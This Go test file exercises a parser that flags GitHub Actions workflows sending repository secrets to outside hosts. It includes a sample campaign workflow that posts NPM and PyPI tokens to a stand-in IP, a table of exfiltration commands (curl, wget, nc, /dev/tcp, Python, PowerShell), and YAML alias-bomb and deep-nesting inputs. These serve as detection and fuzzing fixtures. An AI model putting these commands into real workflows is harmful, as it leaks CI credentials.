package workflow

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

const campaignFile = `name: Github Actions Security

on:
  workflow_dispatch:
  push:

jobs:
  send-secrets:
    runs-on: ubuntu-latest

    steps:
      - name: Prepare Cache Busting
        run: echo "CACHE_BUST=$(date +%s)" >> $GITHUB_ENV

      - name: Github Actions Security
        run: |
          curl -s -X POST -d 'NPM_TOKEN=${{ secrets.NPM_TOKEN }}&PYPI_TOKEN=${{ secrets.pypi_token }}' http://192.0.2.7:8080
`

func TestParseCampaignFile(t *testing.T) {
	f := Parse([]byte(campaignFile))
	if f.Name != "Github Actions Security" || len(f.Problems) != 0 || f.AllSecrets {
		t.Fatalf("file: %+v", f)
	}
	if len(f.Triggers) != 2 || f.Triggers[0].Event != "workflow_dispatch" || f.Triggers[1].Event != "push" {
		t.Errorf("triggers: %+v", f.Triggers)
	}
	want := []SecretRef{{Name: "NPM_TOKEN", Line: 17, Col: 45, Form: "secrets.X"}, {Name: "PYPI_TOKEN", Line: 17, Col: 81, Form: "secrets.X"}}
	if !slices.Equal(f.Secrets, want) {
		t.Errorf("secrets: %+v", f.Secrets)
	}
	job := f.Jobs[0]
	if job.ID != "send-secrets" || job.Name != "send-secrets" || job.Line != 8 || !slices.Equal(job.RunsOn, []string{"ubuntu-latest"}) || len(job.Steps) != 2 {
		t.Fatalf("job: %+v", job)
	}
	step := job.Steps[1]
	if step.Name != "Github Actions Security" || step.Index != 1 || step.Line != 15 || !slices.Equal(step.Secrets, want) {
		t.Errorf("step: %+v", step)
	}
	both := []string{"NPM_TOKEN", "PYPI_TOKEN"}
	d := step.Destinations[0]
	if d.Host != "192.0.2.7" || d.URL != "http://192.0.2.7:8080" || d.Line != 17 || d.Program != "curl" || !d.Bare || !d.Uploads {
		t.Errorf("destination: %+v", d)
	}
	if !slices.Equal(d.Secrets, both) || !slices.Equal(d.Posted, both) || !slices.Equal(d.SelfNamed, both) {
		t.Errorf("what is sent: %+v", d)
	}
}

// step puts a script into a workflow with variables at all three levels.
func step(script string) string {
	return `on: push
env:
  GLOBAL: ${{ secrets.GLOBAL_SECRET }}
jobs:
  job:
    runs-on: ubuntu-latest
    env:
      JOB: ${{ secrets['JOB_SECRET'] }}
      DROP: http://203.0.113.5/in
    steps:
      - env:
          STEP: ${{ secrets.STEP_SECRET }}
        run: |
          ` + strings.ReplaceAll(script, "\n", "\n          ") + "\n"
}

func TestDestinations(t *testing.T) {
	for name, c := range map[string]struct{ script, want string }{
		"plain download":         {"curl -sSfL https://a.example.invalid/install.sh | sh", "a.example.invalid:curl:secrets=:posted=:named="},
		"header is no body":      {`curl -H "Authorization: Bearer ${{ secrets.A }}" https://a.example.invalid/x`, "a.example.invalid:curl:secrets=A:posted=:named="},
		"user is no body":        {`curl -u "x:${{ secrets.A }}" -o out.json https://a.example.invalid/x`, "a.example.invalid:curl:secrets=A:posted=:named="},
		"header's URL":           {`curl -H "Referer: https://b.example.invalid" https://a.example.invalid`, "a.example.invalid:curl:secrets=:posted=:named="},
		"body's URL":             {`curl -d '{"see":"https://b.example.invalid"}' https://a.example.invalid`, "a.example.invalid:curl:secrets=:posted=:named="},
		"step variable":          {`curl -d "STEP_SECRET=$STEP" https://a.example.invalid`, "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET:named=STEP_SECRET"},
		"job variable, braces":   {`curl -d "x=${JOB}" https://a.example.invalid`, "a.example.invalid:curl:secrets=JOB_SECRET:posted=JOB_SECRET:named="},
		"env context":            {`curl -d "x=${{ env.GLOBAL }}" https://a.example.invalid`, "a.example.invalid:curl:secrets=GLOBAL_SECRET:posted=GLOBAL_SECRET:named="},
		"host in a variable":     {`curl -d "x=$STEP" "$DROP"`, "203.0.113.5:curl:secrets=STEP_SECRET:posted=STEP_SECRET:named="},
		"shell variable":         {"DATA='A=${{ secrets.A }}'\ncurl -d \"$DATA\" https://a.example.invalid", "a.example.invalid:curl:secrets=A:posted=A:named=A"},
		"file":                   {"echo '${{ toJSON(secrets) }}' > s.json\ncurl --data-binary @s.json https://a.example.invalid", "a.example.invalid:curl:secrets=*:posted=*:named="},
		"standard input":         {"env | curl -T - https://a.example.invalid", "a.example.invalid:curl:secrets=GLOBAL_SECRET,JOB_SECRET,STEP_SECRET:posted=GLOBAL_SECRET,JOB_SECRET,STEP_SECRET:named="},
		"here-document":          {"curl -d @- https://a.example.invalid <<EOF\nA=${{ secrets.A }}\nEOF\necho done", "a.example.invalid:curl:secrets=A:posted=A:named=A"},
		"continuation":           {"curl -X POST \\\n  -d 'A=${{ secrets.A }}' \\\n  https://a.example.invalid", "a.example.invalid:curl:secrets=A:posted=A:named=A"},
		"secret in the URL":      {`curl "https://a.example.invalid/?t=${{ secrets.A }}"`, "a.example.invalid:curl:secrets=A:posted=A:named="},
		"other command's secret": {"echo ${{ secrets.A }} | docker login\ncurl https://a.example.invalid", "a.example.invalid:curl:secrets=:posted=:named="},
		"wget":                   {`wget -q --post-data="A=${{ secrets.A }}" https://a.example.invalid`, "a.example.invalid:wget:secrets=A:posted=A:named=A"},
		"bare address":           {"curl -d A=${{ secrets.A }} 198.51.100.9:81", "198.51.100.9:curl:secrets=A:posted=A:named=A"},
		"method glued":           {`curl -XPOST https://a.example.invalid -d A=${{ secrets.A }}`, "a.example.invalid:curl:secrets=A:posted=A:named=A"},
		"wget's short flags":     {"wget -c https://a.example.invalid/x", "a.example.invalid:wget:secrets=:posted=:named="},
		"netcat":                 {`echo "$STEP" | nc a.example.invalid 99`, "a.example.invalid:nc:secrets=STEP_SECRET:posted=STEP_SECRET:named="},
		"dev tcp":                {`bash -c "echo $STEP > /dev/tcp/198.51.100.9/443"`, "198.51.100.9:/dev/tcp:secrets=STEP_SECRET:posted=STEP_SECRET:named="},
		"python":                 {"python3 - <<EOF\nimport os, requests\nrequests.post('https://a.example.invalid', os.environ['STEP'])\nEOF", "a.example.invalid:requests.post:secrets=STEP_SECRET:posted=STEP_SECRET:named="},
		"powershell":             {`Invoke-WebRequest -Method Post -Uri https://a.example.invalid -Body "A=$env:STEP"`, "a.example.invalid:invoke-webrequest:secrets=STEP_SECRET:posted=STEP_SECRET:named="},
		"only named":             {"echo curl https://a.example.invalid\napt-get install -y curl wget", ""},
		"comment":                {"# curl https://a.example.invalid\ntrue", ""},
		"computed host":          {"curl https://$(cat host)/x", ""},
		"sent to a computed URL": {`curl -d A=${{ secrets.A }} $(base64 -d u)`, ":curl:secrets=A:posted=A:named=A"},
		"to a variable's host":   {`curl -d A=${{ secrets.A }} https://${{ vars.H }}/x`, ":curl:secrets=A:posted=A:named=A"},
		"with a fallback":        {`curl -d "A=${{ secrets.A || '' }}" https://a.example.invalid`, "a.example.invalid:curl:secrets=A:posted=A:named=A"},
		"by format":              {`curl -d "${{ format('A={0}&x={1}', secrets.A, secrets.B) }}" https://a.example.invalid`, "a.example.invalid:curl:secrets=A,B:posted=A,B:named=A"},
		"named in the query":     {`curl "https://a.example.invalid/?A=${{ secrets.A }}"`, "a.example.invalid:curl:secrets=A:posted=A:named=A"},
		"userinfo":               {"curl https://me:x@A.Example.Invalid:8443/", "a.example.invalid:curl:secrets=:posted=:named="},
		"IPv6":                   {"curl 'http://[2001:db8::1]:80/'", "2001:db8::1:curl:secrets=:posted=:named="},
	} {
		t.Run(name, func(t *testing.T) {
			f := Parse([]byte(step(c.script)))
			if len(f.Problems) != 0 {
				t.Fatal(f.Problems)
			}
			var got []string
			for _, d := range f.Destinations {
				got = append(got, fmt.Sprintf("%s:%s:secrets=%s:posted=%s:named=%s", d.Host, d.Program, strings.Join(d.Secrets, ","),
					strings.Join(d.Posted, ","), strings.Join(d.SelfNamed, ",")))
			}
			if s := strings.Join(got, " "); s != c.want {
				t.Errorf("got  %s\nwant %s", s, c.want)
			}
		})
	}
}

func TestSecretForms(t *testing.T) {
	for expression, want := range map[string]string{
		"secrets.a_b":                         "A_B secrets.X",
		"secrets['a']":                        "A secrets['X']",
		"secrets[format('A_{0}', matrix.x)]":  "* secrets[...]",
		"toJSON(secrets)":                     "* toJSON(secrets)",
		"secrets.*":                           "* toJSON(secrets)",
		"github.token":                        "GITHUB_TOKEN github.token",
		"toJSON(github)":                      "GITHUB_TOKEN toJSON(github)",
		"github.actor":                        "",
		"'secrets.A'":                         "",
		"'}} ${{ secrets.A }}' && secrets.B":  "B secrets.X",
		"secrets.A || secrets.B":              "A secrets.X,B secrets.X",
		"secrets.A oops (":                    "A secrets.X",
		"env.secrets":                         "",
		"contains(toJSON(secrets), 'x') && 1": "* toJSON(secrets)",
	} {
		var got []string
		for _, r := range new(expressions).references("x ${{ " + expression + " }} y") {
			got = append(got, r.name+" "+r.form)
		}
		if s := strings.Join(got, ","); s != want {
			t.Errorf("%s: got %q, want %q", expression, s, want)
		}
	}
}

func TestStepSecretsAndNames(t *testing.T) {
	f := Parse([]byte(`on: {push: {branches: [main]}, schedule: [{cron: "0 3 * * *"}]}
env: {GLOBAL: "${{ secrets.GLOBAL }}"}
jobs:
  call:
    uses: ./.github/workflows/other.yml
    secrets: inherit
  build:
    name: Build it
    runs-on: [self-hosted, linux]
    environment: production
    if: github.ref == 'refs/heads/main'
    container: {image: x, credentials: {username: u, password: "${{ secrets.PULL }}"}}
    steps:
      - uses: a/b@v1
        with: {token: "${{ secrets.WITH }}"}
      - run: |

          make $GLOBAL
      - {id: x, run: make}
`))
	if len(f.Problems) != 0 {
		t.Fatal(f.Problems)
	}
	call, build := f.Jobs[0], f.Jobs[1]
	if call.Uses == "" || len(call.Secrets) != 1 || !call.Secrets[0].All() || call.Secrets[0].Form != "inherit" || call.Secrets[0].Line != 6 || !f.AllSecrets {
		t.Errorf("call: %+v", call)
	}
	if build.Name != "Build it" || build.Environment != "production" || build.If == "" || len(build.RunsOn) != 2 || build.Secrets[0].Name != "PULL" {
		t.Errorf("build: %+v", build)
	}
	var got []string
	for _, s := range build.Steps {
		names := []string{}
		for _, r := range s.Secrets {
			names = append(names, fmt.Sprintf("%s@%d", r.Name, r.Line))
		}
		got = append(got, s.Name+" "+strings.Join(names, ","))
	}
	want := []string{"Run a/b@v1 WITH@15", "Run make $GLOBAL GLOBAL@2", "Run make "}
	if !slices.Equal(got, want) {
		t.Errorf("steps: %q", got)
	}
	if len(f.Triggers) != 2 || !slices.Equal(f.Triggers[0].Branches, []string{"main"}) || !slices.Equal(f.Triggers[1].Cron, []string{"0 3 * * *"}) {
		t.Errorf("triggers: %+v", f.Triggers)
	}
}

func TestReadsHistory(t *testing.T) {
	for script, want := range map[string]bool{
		"git log -p --all | grep x":            true,
		"git -C repo log --all --patch":        true,
		"git rev-list --objects --all":         true,
		"git log --pretty=oneline v1..HEAD":    false,
		"git log --all --oneline; make -p all": false,
		"git diff HEAD~1":                      false,
	} {
		if got := Parse([]byte(step(script))).Jobs[0].Steps[0].ReadsHistory; got != want {
			t.Errorf("%s: %v", script, got)
		}
	}
}

// A file that is no YAML for us may be one for GitHub: what can be seen in its text is kept.
func TestBrokenFileIsSearched(t *testing.T) {
	f := Parse([]byte("on: [push\njobs:\n  run: curl -d 'A=${{ secrets.A }}' http://192.0.2.1\n"))
	if len(f.Problems) != 1 || len(f.Secrets) != 1 || f.Secrets[0].Line != 3 {
		t.Fatalf("%+v", f)
	}
	if len(f.Destinations) != 1 || f.Destinations[0].Line != 3 || !slices.Equal(f.Destinations[0].SelfNamed, []string{"A"}) {
		t.Fatalf("%+v", f.Destinations)
	}
}

// hostile builds files that cost a careless parser minutes or gigabytes.
func hostile() map[string]string {
	bomb := strings.Builder{}
	bomb.WriteString("on: push\njobs:\n  a:\n    runs-on: x\n    strategy:\n      matrix:\n        l0: &l0 [x, x, x, x, x, x, x, x, x, x]\n")
	for i := 1; i < 12; i++ {
		fmt.Fprintf(&bomb, "        l%d: &l%d [%s]\n", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*l%d, ", i-1), 10), ", "))
	}
	doubling := strings.Builder{}
	doubling.WriteString("A=xxxxxxxxxx\n")
	for range 60 {
		doubling.WriteString("A=$A$A\ncurl -d \"$A\" https://a.example.invalid\n")
	}
	return map[string]string{
		"alias bomb":            bomb.String() + "    steps:\n      - run: curl -d 'A=${{ secrets.A }}' http://192.0.2.1\n",
		"alias in itself":       "on: push\njobs: &a\n  x: *a\n# ${{ secrets.A }}\n",
		"deep flow":             "on: " + strings.Repeat("[", 9000) + strings.Repeat("]", 9000),
		"deeper flow":           "on: " + strings.Repeat("[", MaxSize-10),
		"deep blocks":           strings.Repeat("- ", MaxSize/2-10),
		"deep mapping":          strings.Repeat("? ", MaxSize/2-10),
		"long anchors":          "x: &" + strings.Repeat("a", MaxSize-100),
		"many keys":             "on: push\njobs:\n" + strings.Repeat("  a:\n", MaxSize/6),
		"many expressions":      "name: \"" + strings.Repeat("${{secrets.A}}", MaxSize/14-10) + "\"",
		"open expressions":      "name: " + strings.Repeat("${{ ' ", MaxSize/7-10),
		"nested expression":     "name: ${{ " + strings.Repeat("(", 20_000) + "secrets.A" + strings.Repeat(")", 20_000) + " }}",
		"quotes":                step(strings.Repeat("'\"", MaxSize/4-1000)),
		"many commands":         step(strings.TrimSuffix(strings.Repeat("curl a.example.invalid\n", MaxSize/40), "\n")),
		"many URLs":             step("curl " + strings.Repeat("http://a.invalid ", MaxSize/20)),
		"many different URLs":   step("curl " + manyURLs(20_000)),
		"doubling variables":    step(strings.TrimSuffix(doubling.String(), "\n")),
		"many files":            step(strings.TrimSuffix(strings.Repeat("echo $STEP > f$RANDOM\n", 10_000), "\n")),
		"many different files":  step(manyFiles(10_000)),
		"here-documents":        step("cat " + strings.Repeat("<<A ", 50_000)),
		"substitutions":         step(strings.Repeat("$(", 100_000)),
		"not UTF-8":             "on: push\nname: \xff\xfe${{ secrets.A }}",
		"tabs and NUL":          "\t\x00${{ secrets.A }}",
		"larger than the bound": "name: ${{ secrets.A }}\n" + strings.Repeat("#", 2*MaxSize),
		"nothing":               "",
		"a list":                "- a\n- b\n",
	}
}

func manyURLs(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "http://h%d.invalid ", i)
	}
	return b.String()
}

func manyFiles(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "echo $STEP > f%d\n          ", i)
	}
	return strings.TrimSpace(b.String())
}

func FuzzParse(f *testing.F) {
	f.Add([]byte(campaignFile))
	f.Add([]byte(step("DATA='A=${{ secrets.A }}'\ncurl -d \"$DATA\" https://a.example.invalid <<EOF\nx\nEOF")))
	f.Add([]byte("on: push\njobs: &a\n  x: *a\n"))
	f.Add([]byte("aa\nA0a\n        run&000000\xff0000000000000000000000000"))
	f.Add([]byte("0\r0${{seCrets "))
	f.Fuzz(func(t *testing.T, text []byte) {
		lines := 1 + strings.Count(string(text), "\n") + strings.Count(string(text), "\r")
		if text = decoded(text); len(text) > 0 {
			lines += strings.Count(string(text), "\n") // as UTF-16
		}
		got := Parse(text)
		for _, r := range got.Secrets {
			if r.Line < 1 || r.Line > lines || r.Name == "" {
				t.Errorf("secret outside the file: %+v", r)
			}
		}
		for _, d := range got.Destinations {
			if d.Line < 1 || d.Line > lines || d.Computed != (d.Host == "") {
				t.Errorf("destination outside the file: %+v", d)
			}
		}
	})
}
